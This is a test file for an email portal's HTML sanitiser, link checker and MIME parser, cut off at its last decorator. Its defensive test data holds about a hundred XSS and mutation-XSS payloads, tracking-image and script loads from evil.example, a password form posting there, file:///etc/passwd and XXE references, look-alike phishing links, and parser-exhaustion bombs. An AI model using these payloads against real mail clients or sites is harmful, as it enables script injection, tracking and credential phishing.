"""A mail's body: nothing in it acts, asks or loads; nothing in it stops the portal either."""

import base64
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings, strategies as st

from portal.meaning import body as module
from portal.meaning.body import Body, csp, document, links, safe_html, take_apart, to_text

EVIL = "https://evil.example"
PIXEL = "data:image/png;base64,iVBORw0KGgo="

# Said once more here, and shorter than in the module: what may be left of a mail.
HARMLESS_TAGS = """a abbr address b bdi bdo big blockquote br caption center cite code col colgroup dd del details div dl dt em
    figcaption figure font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub summary sup
    table tbody td tfoot th thead tr tt u ul var wbr"""
HARMLESS_ATTRIBUTES = """align valign width height bgcolor border cellpadding cellspacing dir lang title style href src alt color
    face size colspan rowspan scope start type span rel target referrerpolicy"""
TAGS, ATTRIBUTES = set(HARMLESS_TAGS.split()), set(HARMLESS_ATTRIBUTES.split())


BAD_STYLE = r"url|image|expression|import|behavior|binding|position|[\\@<>{}]|/\*"


class Offences(HTMLParser):
    """Everything in a piece of HTML that does not belong there."""

    def __init__(self, html: str, remote: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.remote = remote
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        names = [name for name, _value in attrs]
        if len(names) != len(set(names)):
            self.found.append(f"<{tag}> twice {names}")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.found.append(f"<{tag} {name}>")
            self.look(tag, name, value or "")
        if tag == "a" and dict(attrs).get("target") == "_blank" and "noopener" not in (dict(attrs).get("rel") or ""):
            self.found.append("a link that reaches back")

    def look(self, tag: str, name: str, value: str) -> None:
        scheme = urlsplit(value.strip()).scheme
        good = {"href": ("http", "https", "mailto"), "src": ("https", "data") if self.remote else ("data",)}
        if name in good and scheme not in good[name]:
            self.found.append(f"{name}={value}")
        if name == "src" and scheme == "data" and not re.match(r"data:image/(png|jpeg|gif|webp);base64,", value):
            self.found.append(f"{name}={value}")
        if name == "style" and re.search(BAD_STYLE, value, re.IGNORECASE):
            self.found.append(f"style={value}")

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    handle_decl = handle_pi = unknown_decl = handle_comment


class Seen(HTMLParser):
    """A piece of HTML as a list, whatever the order of its attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=False)
        self.list: list[object] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.list.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.list.append(f"/{tag}")

    def handle_data(self, data: str) -> None:
        self.list.append(data)

    handle_entityref = handle_charref = handle_data


def seen(html: str) -> list[object]:
    reader = Seen()
    reader.feed(html)
    reader.close()
    return reader.list


ATTACKS = [
    # Scripts and handlers
    "<script>alert(1)</script>",
    f"<script src={EVIL}/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT/x>alert(1)</SCRIPT/x>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    '<p onclick="alert(1)" ONMOUSEOVER=alert(1) onpointerrawupdate=alert(1)>x</p>',
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>x",
    "<a href=https://x.example onfocus=alert(1) autofocus tabindex=1 accesskey=x contenteditable>x</a>",
    "<video><source onerror=alert(1)></video>",
    # Addresses
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="blob:https://x/y">x</a><a href="file:///etc/passwd">y</a><a href="cid:x">z</a><a href="tel:1">t</a>',
    '<a href="/sign-out/">x</a><a href="//evil.example">y</a><a href="?a=b">z</a><a href="#x">w</a><a href="">v</a>',
    "<img src=data:text/html;base64,PHNjcmlwdD4=>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    '<img src="data:image/png;base64,x,<script>">',
    f"<img src={EVIL}/t.gif>",
    "<img src=http://evil.example/t.gif>",
    "<img src=//evil.example/t.gif><img src=/static/icon.svg><img src=x><img src=ftp://evil.example/x>",
    f'<img src=" {EVIL}/t.gif " srcset="{EVIL}/t.gif 2x" lowsrc={EVIL}/t dynsrc={EVIL}/t loading=lazy>',
    f"<picture><source srcset={EVIL}/t.gif><img srcset={EVIL}/t.gif></picture>",
    f"<table background={EVIL}/t.gif><tr><td background={EVIL}/t.gif>x</table>",
    f"<body background={EVIL}/t.gif>x</body>",
    f"<input type=image src={EVIL}/t.gif><audio src={EVIL}/t autoplay></audio><video poster={EVIL}/t src={EVIL}/t></video>",
    f"<link rel=stylesheet href={EVIL}/t.css><link rel=prefetch href={EVIL}/t><link rel=dns-prefetch href={EVIL}>",
    f"<a ping={EVIL}/t href=https://x.example download=x.exe>x</a>",
    f"<blockquote cite={EVIL}/t><q cite={EVIL}/t>x</q></blockquote><del cite={EVIL}/t>x</del>",
    # Styles
    f'<p style="background:url({EVIL}/t)">x</p>',
    f"<p style=\"font:url({EVIL}/t);color:image-set('{EVIL}/t' 1x)\">x</p>",
    f'<p style="color:u\\72l({EVIL}/t)">x</p>',
    f'<p style="color:\\75\\72\\6c({EVIL}/t)">x</p>',
    f'<p style="color:url\\28 {EVIL}/t)">x</p>',
    f'<p style="c\\6flor:red;width:u&#x5c;72l({EVIL}/t)">x</p>',
    f"<p style=\"list-style-type:URL('{EVIL}/t')\">x</p>",
    f'<p style="color:src({EVIL}/t);border:-webkit-image-set(url({EVIL}/t) 1x)">x</p>',
    '<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)">x</p>',
    f"<p style=\"color:red;}}@import '{EVIL}/t';p{{color:blue\">x</p>",
    f'<p style="color:red/*;*/;background/**/:url({EVIL}/t)">x</p>',
    '<p style="position:fixed;top:0;left:0;z-index:9999;width:100%;content:attr(x)">x</p>',
    '<p style="color:red&quot; onclick=&quot;alert(1)">x</p>',
    f"<style>@import '{EVIL}/t'; p {{ background: url({EVIL}/t) }}</style>",
    # Whole documents and forms
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/><a href=x>x</a>",
    f"<form action={EVIL}><input name=password><button formaction={EVIL}>x</button><textarea>y</textarea></form>",
    f"<isindex action={EVIL} prompt=password>",
    f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<frameset><frame src={EVIL}></frameset>",
    f"<object data={EVIL}/x.swf><embed src={EVIL}/x.swf></object><applet code=x></applet><param name=movie value={EVIL}>",
    "<?xml-stylesheet href='x'?><!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><p>&x;</p><![CDATA[<script>]]>",
    "<dialog open>x</dialog><div popover=auto id=x>y</div><button popovertarget=x>z</button><slot name=x></slot>",
    "<marquee onstart=alert(1)>x</marquee><blink>y</blink><keygen autofocus onfocus=alert(1)>",
    "<custom-element onclick=x is=y>x</custom-element><template shadowrootmode=open><script>alert(1)</script></template>",
    # htmx and our own pages
    '<div hx-get="/sign-out/" hx-trigger=load hx-post=/batches/release/ hx-on:click=alert(1)>x</div>',
    '<div data-hx-post="/sign-out/" data-hx-trigger="load" data-help data-submit>x</div>',
    '<a href=https://x.example hx-boost=true id=q class="toast close" name=csrfmiddlewaretoken role=alert aria-label=x>x</a>',
    # SVG and MathML
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    f"<svg><image href={EVIL}/t /><use href={EVIL}/x#y /><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><table><mglyph><style><math><!--</style><img src=x onerror=alert(1)>--></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></foreignObject></svg>",
    "<svg><desc><noscript><style></noscript><img src=x onerror=alert(1)></style></desc></svg>",
    # Parsers that disagree
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<style><p title='</style><img src=x onerror=alert(1)>'></style>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<select><option><style></option></select><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--- --!><img src=x onerror=alert(1)> -->",
    "<![if !IE]><script>alert(1)</script><![endif]><!--[if mso]><img src=x onerror=alert(1)><![endif]-->",
    "<p title='`onmouseover=alert(1)`' alt=\"``onerror=alert(1)\">x</p>",
    '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
    "<table><td><p title='</td></table><script>alert(1)</script>'><a href='https://x.example'>x</table><b>y</a>",
    "<b x=1><i y=2><p><font color=red><x-b onclick=alert(1)><x-font onclick=alert(1)>x</x-font></b></i>",
    "<a href='https://x.example'><table><td><a href='javascript:alert(1)'>x</table>",
    "<img src='https://x.example/\" onerror=alert(1) x=\"'>",
    "<p title='\u2028\u2029\ufeff\x00'>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
    "<p",
    "<a href='https://x.example",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x1b$B<script>alert(1)</script>\x1b(B",
]


@pytest.mark.parametrize("remote", [False, True], ids=["blocked", "with images"])
@pytest.mark.parametrize("html", ATTACKS, ids=lambda html: ascii(html[:40]))
def test_nothing_that_acts_asks_or_loads_is_left_of_an_attack(html: str, remote: bool):
    for text in (html, f"<html><body><div>before{html}after</div></body></html>", html * 3):
        clean = safe_html(Body(html=text), remote)
        assert Offences(clean, remote).found == []
        assert seen(safe_html(Body(html=clean), remote)) == seen(clean), "read again it is the same: there is nothing to mutate"
        # The same once more when a parser has taken it apart into text and links.
        assert all(urlsplit(link.target).scheme in ("http", "https", "mailto") for link in links(text))


def test_there_are_enough_attacks_and_the_checker_sees_them():
    assert len(set(ATTACKS)) == len(ATTACKS) >= 40
    harmless_as_they_stand = [html for html in ATTACKS if not Offences(html).found]
    assert len(harmless_as_they_stand) < 12, "the checker would find nearly all of them if they were let through"


FRIENDLY = (
    '<h1 align="center">Hallo</h1><p style="color:red;font-size:12px">Grüße <b>fett</b> <i>schräg</i> <font color="#ff0000" '
    'face="Arial" size="3">rot</font></p><table width="600" cellpadding="4" bgcolor="#fff"><tbody><tr><td colspan="2">'
    "<small>a</small></td></tr></tbody></table><ul><li>x &amp; y</li></ul><hr><blockquote>alt</blockquote>"
)


def test_an_ordinary_mail_looks_as_its_sender_made_it():
    assert safe_html(Body(html=FRIENDLY)) == FRIENDLY
    link = '<a href="https://shop.example/?a=1&amp;b=2" title="t">Shop</a>'
    clean = safe_html(Body(html=link))
    assert 'href="https://shop.example/?a=1&amp;b=2"' in clean
    assert {'target="_blank"', 'title="t"', 'rel="noopener noreferrer nofollow"'} <= set(re.findall(r'\w+="[^"]*"', clean))


def test_bad_declarations_go_and_good_ones_beside_them_stay():
    clean = safe_html(Body(html='<p style="color: red; background: url(x); position: fixed; width: 5px">x</p>'))
    assert re.sub(r"\s", "", clean) == '<pstyle="color:red;width:5px">x</p>'


@pytest.mark.parametrize(
    ("src", "shown", "shown_when_asked"),
    [
        (f"{EVIL}/t.gif", False, True),
        (f"HTTPS{EVIL[5:]}/t.gif", False, True),
        ("http://evil.example/t.gif", False, True),
        ("//evil.example/t.gif", False, False),
        ("cid:logo@mail", True, True),
        ("CID:logo@mail", True, True),
        ("cid:other", False, False),
        ("cid:", False, False),
        (PIXEL, True, True),
        ("data:image/svg+xml;base64,AAAA", False, False),
    ],
)
def test_an_image_is_shown_when_it_came_along_and_a_remote_one_only_over_https_when_asked_for(src, shown, shown_when_asked):
    body = Body(html=f'<img src="{src}" alt="picture">', images={"logo@mail": PIXEL})
    for remote, expected in ((False, shown), (True, shown_when_asked)):
        clean = safe_html(body, remote)
        assert ("src=" in clean) is expected
        assert 'alt="picture"' in clean
        assert "cid:" not in clean.lower()
        assert "http:" not in clean
        assert 'referrerpolicy="no-referrer"' in clean


def test_the_document_is_whole_and_holds_nothing_but_the_clean_body():
    html = document(Body(html="</body><script>alert(1)</script><p>x</p>"))
    assert html.count("<body>") == html.count("</body>") == 1
    assert "<script" not in html
    assert html.endswith("<p>x</p></body></html>")


@pytest.mark.parametrize("remote", [False, True])
def test_the_policy_of_a_body_forbids_everything_but_the_images_that_were_asked_for(remote: bool):
    said = {name: set(rest) for name, *rest in (part.split() for part in csp(remote).split(";"))}
    assert said == {
        "default-src": {"'none'"},
        "style-src": {"'unsafe-inline'"},
        "img-src": {"data:", "https:"} if remote else {"data:"},
        "form-action": {"'none'"},
        "base-uri": {"'none'"},
        "frame-ancestors": {"'self'"},
        "sandbox": {"allow-popups", "allow-popups-to-escape-sandbox"},
    }


# Links


@pytest.mark.parametrize(
    ("html", "odd"),
    [
        ('<a href="https://bank.example/login">bank.example</a>', False),
        ('<a href="https://bank.example/login">https://www.bank.example/other</a>', False),
        ('<a href="https://www.bank.example/">bank.example</a>', False),
        ('<a href="https://login.bank.example/">Bank.Example</a>', False),
        ('<a href="https://bank.example/">Click here</a>', False),
        ('<a href="https://shop.example/sale">Save 12.50 today, 3.5 % more</a>', False),
        ('<a href="mailto:desk@bank.example">desk@bank.example</a>', False),
        ('<a href="https://evil.example/">bank.example</a>', True),
        ('<a href="https://evil.example/">https://bank.example/login</a>', True),
        ('<a href="https://evil.example/"><b>bank</b>.example</a>', True),
        ('<a href="https://evil.example/"><img src=x alt="bank.example"></a>', True),
        ('<a href="https://evil.example/bank.example">bank.example</a>', True),
        ('<a href="https://bank.example.evil.example/">bank.example</a>', True),
        ('<a href="https://evil-bank.example/">bank.example</a>', True),
        ('<a href="https://bank.example/">login.bank.example</a>', True),
        ('<a href="https://bank.example@evil.example/">Click here</a>', True),
        ('<a href="https://bank.example:x@evil.example/">bank.example</a>', True),
        ('<a href="https://xn--bnk-5cd.example/">Click here</a>', True),
        ('<a href="https://b\u0430nk.example/">Click here</a>', True),
        ('<a href="https:\\\\evil.example">bank.example</a>', True),
        ('<a href="https://192.0.2.1/">bank.example</a>', True),
    ],
    ids=ascii,
)
def test_a_link_is_odd_when_it_goes_elsewhere_than_it_says_or_imitates_another_host(html: str, odd: bool):
    (link,) = links(html)
    assert link.odd is odd
    assert Body(links=[link]).odd is odd


def test_links_are_found_with_what_they_show_once_each_and_not_without_end():
    html = (
        "<a href=' https://a.example '>one\n two</a><a href=https://a.example>one two</a><a href=javascript:x>no</a><a>no</a>"
        "<a href='mailto:x@a.example'>write</a><a href=https://c.example>never closed"
    )
    assert [(link.target, link.shown) for link in links(html)] == [
        ("https://a.example", "one two"),
        ("mailto:x@a.example", "write"),
        ("https://c.example", "never closed"),
    ]
    assert len(links("".join(f"<a href=https://x{n}.example>{n}</a>" for n in range(3000)))) == 200
    (long,) = links(f"<a href=https://a.example/{'x' * 10_000}>{'y' * 10_000}</a>")
    assert len(long.target) <= 2000
    assert len(long.shown) <= 300


def test_the_links_of_a_plain_text_are_found_too():
    found = take_apart(
        "See https://a.example/x and (http://xn--bnk-5cd.example) or https://a.example/" + "x" * 10_000, None
    ).links
    assert [link.odd for link in found] == [False, True, False]
    assert found[0].target == found[0].shown == "https://a.example/x"
    assert max(len(link.target) for link in found) <= 2010


# Taking a mail apart


def mail(headers: str, text: str = "hello") -> str:
    return f"Subject: x\n{headers}\n\n{text}"


def multipart(*parts: str, kind: str = "mixed") -> str:
    return f"Content-Type: multipart/{kind}; boundary=B\n\n" + "".join(f"--B\n{part}\n" for part in parts) + "--B--\n"


def part(kind: str, text: str, *headers: str) -> str:
    return "\n".join((f"Content-Type: {kind}", *headers, "", text))


def test_text_html_and_inline_images_of_a_mail_are_found():
    image = base64.b64encode(b"\x89PNG\r\n").decode()
    body = take_apart(
        "not this",
        multipart(
            multipart(part("text/plain", "Hello"), part("text/html", '<p>Hello</p><img src="cid:logo@x">'), kind="alternative"),
            part("image/png", image, "Content-Transfer-Encoding: base64", "Content-ID: <logo@x>"),
            part("text/plain", "a file", 'Content-Disposition: attachment; filename="a.txt"'),
            part("image/svg+xml", image, "Content-Transfer-Encoding: base64", "Content-ID: <svg@x>"),
        )
        .replace("boundary=B", "boundary=A", 1)
        .replace("--B\nContent-Type: multipart", "--A\nContent-Type: multipart")
        .replace("--B\nContent-Type: image", "--A\nContent-Type: image")
        .replace("--B\nContent-Type: text/plain\nContent-D", "--A\nContent-Type: text/plain\nContent-D"),
    )
    assert body.text.strip() == "Hello"
    assert body.html.startswith("<p>Hello</p>")
    assert body.images == {"logo@x": f"data:image/png;base64,{image}"}
    assert f'src="data:image/png;base64,{image}"' in safe_html(body)
    assert not body.cut


def test_a_mail_of_html_alone_is_read_as_text_too():
    body = take_apart(
        None, mail("Content-Type: text/html", "<style>p{}</style><p>One<br>two</p><script>x</script><p>&amp; three</p>")
    )
    assert body.text == "One\ntwo\n& three"


def test_without_a_source_the_content_is_taken_as_what_it_looks_like():
    assert take_apart("plain < text", None).text == "plain < text"
    assert take_apart("plain < text", "").html == ""
    assert take_apart("<div>x</div>", None).html == "<div>x</div>"
    assert take_apart("<div>x</div>", mail("Content-Type: application/pdf")).html == "<div>x</div>"
    for nothing in (None, ""):
        empty = take_apart(nothing, nothing)
        assert (empty.text, empty.html, empty.links, empty.cut) == ("", "", [], False)


@pytest.mark.parametrize(
    ("html", "remote"),
    [
        (f"<img src={EVIL}/t.gif>", True),
        ("<IMG alt='<' SRC = 'http://evil.example/t.gif'>", True),
        (f"<p style=\"background: url( '{EVIL}/t' )\">", True),
        ("<img src=cid:x>", False),
        (f"<img src={PIXEL}>", False),
        (f"<a href={EVIL}>x</a>", False),
    ],
)
def test_a_mail_that_would_load_something_from_elsewhere_is_known(html: str, remote: bool):
    assert take_apart(f"<div>{html}</div>", None).remote is remote


BROKEN = {
    "no header": "\n\nhello",
    "no body": "Subject: x",
    "headers and no end": "Subject: x\nhello world\nmore",
    "byte order mark": "\ufeffSubject: x\n\nhello",
    "multipart without a boundary": mail("Content-Type: multipart/mixed"),
    "empty boundary": mail('Content-Type: multipart/mixed; boundary=""', "--\nhello"),
    "boundary that never comes": mail("Content-Type: multipart/mixed; boundary=B"),
    "no end boundary": mail("Content-Type: multipart/mixed; boundary=B", "--B\n\nhello"),
    "base64 that is none": mail("Content-Transfer-Encoding: base64", "####a"),
    "base64 cut short": mail("Content-Transfer-Encoding: base64", "aGVsbG8\nd29ybGQ=a"),
    "quoted-printable that is none": mail("Content-Transfer-Encoding: quoted-printable", "=\n==3D=ZZ=C3"),
    "uuencode that is none": mail("Content-Transfer-Encoding: x-uuencode", "begin 644 x\n\x00\xff\n`\nend"),
    "letters in an encoding": mail("Content-Transfer-Encoding: bäse64", "ä"),
    "a parameter in two notations": mail("Content-Type: text/plain; name*=a; name*1=b"),
    "a boundary in two notations": mail("Content-Type: multipart/mixed; boundary*=a; boundary*1=b", "--a\n\nhello"),
    "a file name in two notations": mail("Content-Disposition: attachment; filename*=a; filename*1=b"),
    "a charset in percent signs": mail("Content-Type: text/plain; charset*=%ff%fe"),
    "a charset with a zero in percent signs": mail("Content-Type: text/plain; charset*=utf-8''a%00"),
    "an image with letters in its id": mail("Content-Type: image/png\nContent-ID: <ä>", "ä"),
    "a delivery status": mail("Content-Type: message/delivery-status", "A: b\n\nC: d\n"),
    "a part of a mail": mail("Content-Type: message/partial; id=x; number=1", "Subject: hi\n\nyo"),
    "carriage returns alone": "Content-Type: text/plain\r\rhello",
    "zeros": "Content-Type: text/plain\x00\n\nhello\x00",
}


@pytest.mark.parametrize("source", BROKEN.values(), ids=BROKEN)
def test_a_broken_mail_is_read_as_far_as_it_goes(source: str):
    body = take_apart("the content", source)
    assert body.text or body.html
    (body.text + body.html).encode()


CHARSETS = (
    *(
        "nonsense",
        "idna",
        "punycode",
        "unicode_escape",
        "raw_unicode_escape",
        "utf-7",
        "undefined",
        "hex",
        "base64",
        "zip",
        "rot13",
    ),
    *("utf-8\x00", "utf-16", "utf-32", "mbcs", "oem", "''", '""', "*", "../../etc/passwd", "big5", "ä", "utf_8_sig", "x" * 5000),
)


@pytest.mark.parametrize("charset", CHARSETS, ids=ascii)
def test_a_charset_that_nobody_knows_or_that_is_a_trap_costs_letters_at_most(charset: str):
    body = take_apart(None, mail(f"Content-Type: text/plain; charset={charset}", "hello xn--\\ud800 \\ud800 +2AA- \\x zz"))
    assert body.text
    body.text.encode()  # nothing that cannot be sent to a browser


def test_text_in_another_charset_than_it_says_is_guessed():
    assert take_apart(None, mail("Content-Type: text/plain; charset=us-ascii", "Grüße")).text == "Grüße"
    # The gateway decodes what is no UTF-8 with replacement characters before we see it; the rest stays readable.
    assert take_apart(None, mail("Content-Type: text/plain; charset=latin-1", "Gr\ufffd\ufffde")).text.startswith("Gr")
    encoded = base64.b64encode("Grüße".encode("latin-1")).decode()
    for charset in ("latin-1", "utf-8", "nonsense"):
        source = mail(f"Content-Type: text/plain; charset={charset}\nContent-Transfer-Encoding: base64", encoded)
        assert take_apart(None, source).text == "Grüße"


# Mails made to stop us


def nested(levels: int, text: str = "hello") -> str:
    opened = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(levels))
    return f"{opened}Content-Type: text/plain\n\n{text}\n" + "".join(f"--b{n}--\n" for n in reversed(range(levels)))


@pytest.mark.parametrize("levels", [10, 40, 100, 500, 3000, 20_000])
def test_a_mail_in_a_mail_in_a_mail_is_read_or_left_alone(levels: int):
    body = take_apart("the content", nested(levels))
    assert body.text.strip() == "hello" or (body.text == "the content" and body.cut)
    assert (body.text.strip() == "hello") is (levels <= 40)


@pytest.mark.parametrize("levels", [10, 500, 20_000])
def test_forwarded_within_forwarded_without_end_is_read_or_left_alone(levels: int):
    body = take_apart("the content", "Content-Type: message/rfc822\n\n" * levels + "Subject: x\n\nhello")
    assert body.text in ("hello", "the content")


def test_of_very_many_parts_the_first_ones_are_read():
    parts = [part("text/html" if n == 150 else "application/pdf", f"<p>{n}</p>") for n in range(300)]
    body = take_apart(None, multipart(*parts))
    assert body.html.strip() == "<p>150</p>"
    assert body.cut
    assert take_apart(None, multipart(*parts[151:])).html == ""


def test_inline_images_go_along_up_to_a_size(monkeypatch):
    monkeypatch.setattr(module, "LARGEST_IMAGES", 1000)
    image = base64.b64encode(b"x" * 400).decode()
    headers = "Content-Transfer-Encoding: base64"
    body = take_apart(None, multipart(*(part("image/gif", image, headers, f"Content-ID: <{n}>") for n in range(5))))
    assert list(body.images) == ["0", "1"]


@pytest.mark.parametrize("letter", ["x", "ä", "€", "😀"])
def test_a_huge_text_is_cut_and_stays_readable(letter: str):
    body = take_apart(None, mail("Content-Type: text/plain; charset=utf-8", letter * 3_000_000))
    assert body.cut
    assert set(body.text) == {letter}
    assert len(body.text) == module.LARGEST_TEXT


def test_huge_html_is_cut_and_stays_harmless():
    body = take_apart("<p>" + "x" * 2_000_000 + "<script>", None)
    assert body.cut
    assert len(body.html) <= module.LARGEST_HTML
    assert len(body.text) <= module.LARGEST_TEXT
    assert Offences(safe_html(body)).found == []


def test_a_source_too_large_to_take_apart_leaves_the_content(monkeypatch):
    monkeypatch.setattr(module, "LARGEST_SOURCE", 100)
    assert take_apart("the content", mail("X: y", "x" * 200)).text == "the content"


# Each of these kept a processor busy for minutes, or filled gigabytes, with a mail of less than a megabyte.
BOMBS = {
    "images without an end": "<p>" + "<img src " * 100_000,
    "links without an end": "<p>" + "<a " * 300_000,
    "quotes without an end": "<p>" + "<a href='" * 100_000,
    "comments without an end": "<p>" + "<!--" * 200_000,
    "sections without an end": "<p>" + "<![CDATA[" * 100_000,
    "ends without an end": "<p>" + "</" * 400_000,
    "boxes in boxes": "<div>" * 150_000,
    "tables in tables": "<table><tr><td>" * 50_000,
    "formats that every paragraph takes over": "<p>" + "".join(f"<font color=c{n}><p>" for n in range(40_000)),
    "formats for many paragraphs": "<b><b><b><i><i><i><u><u><u><s><s><s><tt><tt><tt>" + "<p>x" * 200_000,
    "declarations": "<p style='" + "color:red;" * 90_000 + "'>",
    "brackets in a style": "<p style='color:" + "(" * 900_000 + "'>",
    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(90_000)) + ">",
    "addresses": "<p style='" + "url(" * 200_000 + "'>",
    "blanks": "<pre>" + " " * 500_000 + "x</pre>",
    "blanks and something hidden": "<pre>" + (" " * 1000 + "<b hidden>x</b>") * 400 + "\n" * 100_000 + "x</pre>",
    "comments in style sheets": ("<style>" + "/* " * 20_000 + "</style>") * 8 + "<p>",
    "style sheets without rules": ("<style>" + "a" * 60_000 + "</style>") * 8 + "<p>",
    "rules without an end": ("<style>" + ("a" * 498 + "{" + "b" * 2000) * 24 + "</style>") * 8 + "<p>",
    "rules within rules": ("<style>" + ("@" * 298 + "{" + "a{}" * 100) * 50 + "</style>") * 8 + "<p>",
}


@pytest.mark.parametrize("html", BOMBS.values(), ids=BOMBS)
def test_a_mail_made_to_burst_a_parser_is_cut_and_shown(html: str):
    body = take_apart(html, None)
    assert body.html.count("<") <= module.MOST_TAGS
    assert len(body.html) <= module.LARGEST_HTML
    clean = safe_html(body)
    assert Offences(clean).found == []
    assert len(clean) <= 10 * module.LARGEST_HTML


def test_one_picture_that_is_shown_very_often_is_sent_as_often_as_there_is_room():
    picture = "data:image/png;base64," + "A" * 1_000_000
    body = Body(html="<img src=cid:x>" * 400 + "<p>end</p>", images={"x": picture})
    clean = safe_html(body)
    assert clean.count("<img") == 400
    assert len(clean) < 3_000_000
    small = Body(html="<img src=cid:x>" * 400, images={"x": PIXEL})
    assert safe_html(small).count(PIXEL) == 400


def test_attributes_that_a_parser_repeats_are_sent_up_to_a_size():
    for tag in ("a href='https://a.example/{}'", "a title='{}'", "nobr title='{}'", "b title='{}'", "font color='{}'"):
        html = "<p><" + tag.format("x" * 15_000) + ">" + "</p><p>x" * 4000
        assert len(safe_html(Body(html=html))) < 5_000_000
        links(html)
    many = "".join(f"<p title='{'x' * 19_000}'>" for _ in range(26))
    assert len(safe_html(Body(html=many))) < 1_000_000


@pytest.mark.parametrize("letter", ["&", "\xa0", "&amp", "<", ">", '"'])
def test_letters_that_are_costly_to_escape_are_counted(letter: str):
    body = take_apart(letter * 200_000 + "<p>", None)
    assert body.cut or len(body.html) < module.LARGEST_HTML
    assert len(re.findall("[&\xa0]", body.html)) <= module.MOST_ESCAPED
    assert len(safe_html(body)) < 5_000_000
    source = multipart(*(part("text/html", "<p>" + letter * 30_000) for _ in range(30)))
    several = take_apart(None, source)
    assert sum(len(re.findall("[&\xa0]", piece.html)) for piece in several.pieces) <= module.MOST_ESCAPED
    assert sum(piece.html.count("<") for piece in several.pieces) <= module.MOST_TAGS
    assert sum(len(piece.html) for piece in several.pieces) <= module.LARGEST_HTML
    assert len(several.text) <= module.LARGEST_TEXT


HEADER_BOMBS = {
    "parameters": mail("Content-Type: text/plain" + "; a=b" * 300_000),
    "semicolons": mail('Content-Type: text/plain; a="' + ";" * 300_000),
    "parameters of a multipart": mail("Content-Type: multipart/mixed" + "; a=b" * 300_000 + "; boundary=B", "--B\n\nhello"),
    "headers": mail("X: y\n" * 100_000 + "Z: z"),
    "lines at depth": nested(300, "l\n" * 2_000_000),
}


@pytest.mark.parametrize("source", HEADER_BOMBS.values(), ids=HEADER_BOMBS)
def test_a_source_made_to_keep_a_parser_busy_is_read_or_left_alone(source: str):
    assert take_apart("the content", source).text.strip() in ("hello", "the content")


def test_text_for_judging_a_mail_has_no_markup_and_no_hidden_text():
    assert to_text("<p>a<b>b</b></p><svg>no</svg><title>no</title><template>no</template>") == "ab"
    assert "<script>" in to_text("<p>&lt;script&gt;</p>"), "as text, which the page escapes"


LINES = st.sampled_from(
    (
        "Content-Type: multipart/mixed; boundary=B",
        "Content-Type: multipart/alternative; boundary=B",
        "Content-Type: text/html; charset=utf-16",
        "Content-Type: text/plain; charset=utf-7",
        "Content-Type: message/rfc822",
        "Content-Type: image/png; name*0*=x; name*1=y",
        "Content-Transfer-Encoding: base64",
        "Content-Transfer-Encoding: quoted-printable",
        "Content-Disposition: inline; filename*=utf-8''%ff",
        "Content-ID: <x>",
        "--B",
        "--B--",
        "<a href=https://x.example><img src='cid:x'>",
        "=ZZ=\x00+2AA-",
        "",
        "",
        "",
    )
)
SOURCES = st.text() | st.lists(LINES | st.text(max_size=20), max_size=30).map("\n".join)


@settings(max_examples=300, deadline=None, database=None, derandomize=True)
